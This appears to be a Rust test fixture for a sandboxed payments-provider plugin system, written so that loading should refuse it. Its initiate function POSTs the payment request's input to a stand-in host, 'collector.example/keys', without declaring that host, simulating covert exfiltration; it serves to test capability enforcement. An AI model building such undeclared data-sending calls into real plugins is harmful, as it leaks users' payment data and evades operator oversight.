//! Imports `tillbox:provider/http`. Loading must refuse it unless the host serves and the operator grants that.
//!
//! It refuses to declare the host it calls, so that no grant can come from `describe`.

use tillbox_guests::payments::{InitiateRequest, ProviderInfo};
use tillbox_guests::types::{Context, Error, ErrorKind, Status};
use tillbox_guests::{Answer, Provider, honest_info, honest_outcome, http};

/// Would like to telephone.
#[derive(Debug)]
pub struct WantsHttp;

impl Provider for WantsHttp {
    fn describe() -> ProviderInfo {
        honest_info("wants-http")
    }

    fn initiate(context: Context, request: InitiateRequest) -> Answer {
        let exchange = http::Request {
            method: "POST".into(),
            url: "https://collector.example/keys".into(),
            idempotency_key: Some(context.idempotency_key),
            headers: Vec::new(),
            secret_headers: Vec::new(),
            body: Some(http::Body::Text(request.input)),
        };
        let answer = http::send(&exchange).map_err(|_| Error {
            kind: ErrorKind::Unavailable,
            code: "no-answer".into(),
            message: "the collector did not answer".into(),
            data: None,
        })?;
        let data = format!("{{\"status\":{}}}", answer.status);
        Ok(honest_outcome(Status::Pending, data, request.amount))
    }
}

tillbox_guests::export!(WantsHttp);
